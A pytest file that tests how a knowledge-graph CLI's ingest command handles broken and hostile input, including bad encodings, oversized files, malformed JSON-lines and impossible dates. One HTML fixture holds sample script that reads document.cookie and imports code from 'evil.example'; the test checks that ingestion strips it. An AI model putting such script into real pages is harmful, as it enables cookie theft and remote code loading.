"""Hostile and broken input through the CLI, in process and as a real process (the HTTP
ingest API's side is ``tests/test_bad_input_http.py``).

Every refused input gets one line naming it, the rest of a batch lands, and the
store is byte-for-byte unchanged by what was refused (the N-Quads of the store
are compared before and after).
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from kg import ids
from kg.cli import main
from kg.cli.env import Environment
from tests.bad_input import FIFTY_MB, GOOD_TEXT, OTHER_TEXT, literals, quads, stated
from tests.bad_input import spy, store  # noqa: F401  (fixtures)
from tests.reliability_log import reliability  # noqa: F401  (fixture)

RELIABILITY_AREA = "Bad input"


def kg_ingest(store, *args: str):  # type: ignore[no-untyped-def]
    env = Environment(store_uri="memory:", _store=store)
    return CliRunner().invoke(main, ["ingest", "--no-progress", *map(str, args)], obj=env)


def error_lines(result) -> list[str]:  # type: ignore[no-untyped-def]
    lines = result.stderr.strip().splitlines()
    assert all(line.startswith("kg: error: ") for line in lines), result.stderr
    assert "Traceback" not in result.output
    return lines


def split_error(line: str) -> tuple[str, str]:
    """``kg: error: WHERE: MESSAGE`` -> ``(WHERE, MESSAGE)``."""
    where, _, message = line.removeprefix("kg: error: ").partition(": ")
    return where, message


def refused(store, reliability, path: Path, *args: str) -> str:  # type: ignore[no-untyped-def]
    """Ingest ``path`` alone, expect exactly one error naming it and an unchanged store."""
    before = quads(store)
    result = kg_ingest(store, path, *args)
    (line,) = error_lines(result)
    assert result.exit_code == 1, result.output
    assert line.startswith(f"kg: error: {path}"), line
    assert result.stdout.strip() == "0 added, 0 replaced, 0 unchanged, 1 failed"
    assert quads(store) == before
    reliability.happened(f"exit 1, `{path.name}: {split_error(line)[1]}`, store unchanged")
    return line


@pytest.mark.parametrize("name, data, message", [
    ("empty.txt", b"", "empty article"),
    ("blank.txt", b"  \n\t\n ", "empty article"),
    ("image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00" * 8, "binary data"),
    ("controls.txt", bytes(range(1, 9)) * 100, "binary data"),
    ("latin1.txt", "Caf\u00e9 talks in Beyrouth".encode("latin-1"), "--encoding"),
    ("utf16-no-bom.txt", GOOD_TEXT.encode("utf-16-le"), "--encoding utf-16-le"),
])
def test_unreadable_file_is_refused_with_one_line(tmp_path, store, reliability, name, data,
                                                   message):
    reliability.tried(f"`kg ingest` of {name} ({len(data)} bytes)")
    path = tmp_path / name
    path.write_bytes(data)
    assert message in refused(store, reliability, path)


def test_latin1_lands_with_the_encoding_it_was_told(tmp_path, store, reliability):
    reliability.tried("`kg ingest --encoding latin-1` of a Latin-1 file")
    path = tmp_path / "cafe.txt"
    path.write_bytes("Caf\u00e9 owners said Hezbollah shelled Arsal.".encode("latin-1"))
    result = kg_ingest(store, path, "--encoding", "latin-1")
    assert result.exit_code == 0, result.output
    assert any("Caf\u00e9 owners" in text for text in literals(store))
    reliability.happened("exit 0, article stored with the decoded text ('Café')")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig"])
def test_text_with_a_byte_order_mark_decodes(tmp_path, store, reliability, encoding):
    reliability.tried(f"`kg ingest` of a {encoding} file with its byte-order mark")
    path = tmp_path / "bom.txt"
    path.write_bytes(GOOD_TEXT.encode(encoding))
    result = kg_ingest(store, path)
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == "1 added, 0 replaced, 0 unchanged, 0 failed"
    texts = literals(store)
    assert any(text.startswith("Hezbollah fighters clashed") for text in texts)
    assert not any("\ufeff" in text or "\x00" in text for text in texts)
    reliability.happened("exit 0, text stored without BOM or NUL characters")


def test_fifty_megabyte_article_is_refused_before_extraction(tmp_path, store, spy, reliability):
    reliability.tried("`kg ingest` of a 50 MB text file next to a good one")
    big = tmp_path / "big.txt"
    big.write_bytes(b"Hezbollah shelled Arsal. " * (FIFTY_MB // 25))
    good = tmp_path / "good.txt"
    good.write_text(GOOD_TEXT, "utf-8")
    before = quads(store)
    result = kg_ingest(store, big, good)
    (line,) = error_lines(result)
    assert result.exit_code == 1
    assert line.startswith(f"kg: error: {big}: file is 52.4 MB, over the ")
    assert spy.keys == ["good"]  # the big one never reached the extractor
    assert set(stated(store)) > set(stated(before))  # the tallies' counts change, the rest grows
    assert ids.article_uri("big") not in store.graphs()
    reliability.happened(f"exit 1, `{split_error(line)[1]}`; never extracted; the good file "
                         "landed")


def test_fifty_megabyte_line_in_a_batch_is_refused(tmp_path, store, spy, reliability):
    reliability.tried("`kg ingest` of a JSON-lines batch whose 2nd line holds a 50 MB article")
    batch = tmp_path / "batch.jsonl"
    with batch.open("w", encoding="utf-8") as out:
        out.write(json.dumps({"id": "small", "text": GOOD_TEXT}) + "\n")
        out.write(json.dumps({"id": "huge", "text": "Arsal. " * (FIFTY_MB // 7)}) + "\n")
    result = kg_ingest(store, batch)
    (line,) = error_lines(result)
    assert line == (f"kg: error: {batch}:2: record is over the 20.0 MB limit of a JSON line "
                    "(KG_MAX_LINE_BYTES), skipped")  # refused unread, not after reading it whole
    assert spy.keys == ["small"]
    assert ids.article_uri("small") in store.graphs()
    reliability.happened(f"`{split_error(line)[1]}` for line 2; line 1 landed")


def test_html_scripts_are_dropped_and_text_kept(tmp_path, store, reliability):
    reliability.tried("`kg ingest` of an HTML page with <script>, <style> and event handlers")
    page = tmp_path / "page.html"
    page.write_text(
        "<!doctype html><html><head><title>Clashes near Arsal</title>"
        "<script>window.stolen = document.cookie</script><style>p{color:red}</style></head>"
        "<body onload=\"steal()\"><p>Hezbollah fighters clashed with Islamic State militants."
        "<script type=module>import('//evil.example/x.js')</script></p>"
        "<noscript>enable javascript</noscript><p>Two fighters were killed.</p></body></html>",
        "utf-8")
    result = kg_ingest(store, page)
    assert result.exit_code == 0, result.output
    texts = literals(store)
    assert "Clashes near Arsal" in texts
    assert any("Two fighters were killed." in text for text in texts)
    for fragment in ("stolen", "cookie", "color:red", "evil.example", "steal()", "enable javascript",
                     "<p>", "<script"):
        assert not any(fragment in text for text in texts), fragment
    reliability.happened("title and paragraphs stored; no script, style or markup in any literal")


def test_jsonl_batch_with_broken_lines_lands_the_good_ones(tmp_path, store, reliability):
    reliability.tried("`kg ingest` of a JSON-lines batch: 3 good lines, 6 broken ones")
    batch = tmp_path / "batch.jsonl"
    lines = [
        json.dumps({"id": "one", "text": GOOD_TEXT, "published": "2017-08-20"}),
        '{"id": "two", "text": "unterminated',
        json.dumps({"id": "three", "title": "no text"}),
        json.dumps(["not", "an", "object"]),
        json.dumps({"id": "four", "text": OTHER_TEXT + " Later that day."}),
        json.dumps({"id": "five", "text": "Arsal", "published": "2017-02-30"}),
        '{"id": "six", "text": "caf\xe9"}',
        "[" * 50_000,
        json.dumps({"id": "seven", "text": "ISIS fighters left for Deir ez-Zor."}),
    ]
    data = "\n".join(lines).encode("utf-8").replace("caf\xe9".encode("utf-8"), b"caf\xe9")
    batch.write_bytes(data)
    before = set(quads(store))
    result = kg_ingest(store, batch)
    errors = error_lines(result)
    assert result.exit_code == 1
    assert result.stdout.strip() == "3 added, 0 replaced, 0 unchanged, 6 failed"
    assert [split_error(line)[0] for line in errors] == [f"{batch}:{n}" for n in (2, 3, 4, 6, 7, 8)]
    graphs = set(store.graphs())
    assert {ids.article_uri(k) for k in ("one", "four", "seven")} <= graphs
    assert not {ids.article_uri(k) for k in ("two", "three", "five", "six")} & graphs
    assert set(stated(before)) <= set(stated(quads(store)))
    reliability.happened("exit 1; 3 lines landed; each broken line reported as FILE:LINE: "
                         + "; ".join(split_error(line)[1] for line in errors))


def test_the_same_article_twice_is_unchanged(tmp_path, store, reliability):
    reliability.tried("`kg ingest` of the same file twice, then a batch repeating one record")
    path = tmp_path / "report.txt"
    path.write_text(GOOD_TEXT, "utf-8")
    assert kg_ingest(store, path).exit_code == 0
    after_first = quads(store)
    second = kg_ingest(store, path)
    assert second.exit_code == 0
    assert second.stdout.strip() == "0 added, 0 replaced, 1 unchanged, 0 failed"
    assert quads(store) == after_first
    batch = tmp_path / "twice.jsonl"
    record = json.dumps({"id": "dup", "text": OTHER_TEXT})
    batch.write_text(f"{record}\n{record}\n", "utf-8")
    third = kg_ingest(store, batch)
    assert third.stdout.strip() == "1 added, 0 replaced, 1 unchanged, 0 failed"
    reliability.happened("second run: '0 added, 0 replaced, 1 unchanged', store identical; "
                         "a repeated record in one batch: 1 added, 1 unchanged")


def test_one_id_twice_with_different_text_keeps_the_first(tmp_path, store, reliability):
    reliability.tried("a JSON-lines batch with one id on two lines with different text")
    batch = tmp_path / "clash.jsonl"
    batch.write_text(json.dumps({"id": "same", "text": GOOD_TEXT}) + "\n"
                     + json.dumps({"id": "same", "text": OTHER_TEXT}) + "\n", "utf-8")
    result = kg_ingest(store, batch)
    (line,) = error_lines(result)
    assert result.exit_code == 1
    assert line.startswith(f"kg: error: {batch}:2: article id 'same' appears twice")
    assert any(text.startswith("Hezbollah fighters") for text in literals(store))
    message = split_error(line)[1].replace(f"{tmp_path}/", "")
    reliability.happened(f"exit 1, `{message}`; the first copy is stored")


@pytest.mark.parametrize("published, message", [
    ("2017-02-30", "bad date '2017-02-30', expected YYYY-MM-DD"),
    ("2017-13-01", "bad date '2017-13-01', expected YYYY-MM-DD"),
    ("yesterday", "bad date 'yesterday', expected YYYY-MM-DD"),
    ("2999-01-01", "date 2999-01-01 is in the future"),
])
def test_impossible_and_future_dates_are_refused(tmp_path, store, reliability, published,
                                                 message):
    reliability.tried(f"`kg ingest` of an article whose metadata says published {published}")
    path = tmp_path / "dated.txt"
    path.write_text(GOOD_TEXT, "utf-8")
    (tmp_path / "dated.meta.json").write_text(json.dumps({"published": published}), "utf-8")
    assert message in refused(store, reliability, path)


def test_future_date_option_is_refused_before_anything_loads(tmp_path, store, spy, reliability):
    reliability.tried("`kg ingest --date 2999-01-01`")
    path = tmp_path / "a.txt"
    path.write_text(GOOD_TEXT, "utf-8")
    before = quads(store)
    result = kg_ingest(store, path, "--date", "2999-01-01")
    (line,) = error_lines(result)
    assert result.exit_code == 1
    assert line.startswith("kg: error: --date: date 2999-01-01 is in the future")
    assert spy.keys == [] and quads(store) == before
    reliability.happened(f"exit 1, `{line.removeprefix('kg: error: ')}`, nothing extracted")


def test_future_date_in_html_metadata_is_refused(tmp_path, store, reliability):
    reliability.tried("`kg ingest` of HTML with article:published_time 2999-05-01")
    page = tmp_path / "future.html"
    page.write_text('<html><head><meta property="article:published_time" '
                    'content="2999-05-01T10:00:00Z"></head><body><p>' + GOOD_TEXT
                    + "</p></body></html>", "utf-8")
    assert "is in the future" in refused(store, reliability, page)


def test_device_file_is_not_read_forever(store, reliability):
    reliability.tried("`kg ingest /dev/zero` (endless input)")
    assert "not a regular file" in refused(store, reliability, Path("/dev/zero"))


# --- the same through a real process: exit codes and stderr -----------------------------------

KG = [sys.executable, "-m", "kg.cli.__main__"]


def kg(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*KG, *args], cwd=cwd, capture_output=True, text=True, timeout=300,
                          env={"PATH": "/usr/bin:/bin", "KG_STORE": f"oxigraph:{cwd}/kg"})


def test_real_process_exit_codes_and_messages(tmp_path, reliability):
    reliability.tried("`kg ingest` as a process: a folder with 2 good and 7 bad files; "
                      "then a usage error; then only good files")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    bad = {
        "empty.txt": b"",
        "binary.txt": b"\x00\x01\x02\x03PNG" * 10,
        "latin1.txt": "Caf\u00e9 talks".encode("latin-1"),
        "future.txt": GOOD_TEXT.encode(),
        "impossible.txt": GOOD_TEXT.encode(),
        "broken.jsonl": b'{"text": "half',
        "big.txt": b"x" * (6 * 1024 * 1024),
    }
    for name, data in bad.items():
        (inbox / name).write_bytes(data)
    (inbox / "future.meta.json").write_text('{"published": "2999-01-01"}', "utf-8")
    (inbox / "impossible.meta.json").write_text('{"published": "2017-02-30"}', "utf-8")
    (inbox / "good1.txt").write_text(GOOD_TEXT, "utf-8")
    (inbox / "good2.html").write_text(f"<p>{OTHER_TEXT}</p><script>x()</script>", "utf-8")

    mixed = kg("ingest", str(inbox), cwd=tmp_path)
    assert mixed.returncode == 1, mixed.stderr
    assert mixed.stdout.strip() == "2 added, 0 replaced, 0 unchanged, 7 failed"
    lines = mixed.stderr.strip().splitlines()
    assert "Traceback" not in mixed.stderr and len(lines) == 7
    named = sorted(Path(split_error(line)[0]).name for line in lines)
    assert named == sorted(name if name != "broken.jsonl" else f"{name}:1" for name in bad)

    usage = kg("ingest", str(inbox / "missing.txt"), cwd=tmp_path)
    assert usage.returncode == 2 and "does not exist" in usage.stderr
    good = kg("ingest", str(inbox / "good1.txt"), str(inbox / "good2.html"), cwd=tmp_path)
    assert good.returncode == 0 and good.stdout.strip() == "0 added, 0 replaced, 2 unchanged, 0 failed"

    from kg.store import open_store

    with open_store(f"oxigraph:{tmp_path}/kg") as stored:
        articles = sorted(g for g in stored.graphs() if g not in ids.shared_graphs())
        assert articles == sorted(ids.article_uri(k) for k in ("good1", "good2"))
    reliability.happened("exit 1 with 7 one-line errors (one per bad file, no traceback) and "
                         "the 2 good files stored; missing path: exit 2; all-good rerun: exit 0")
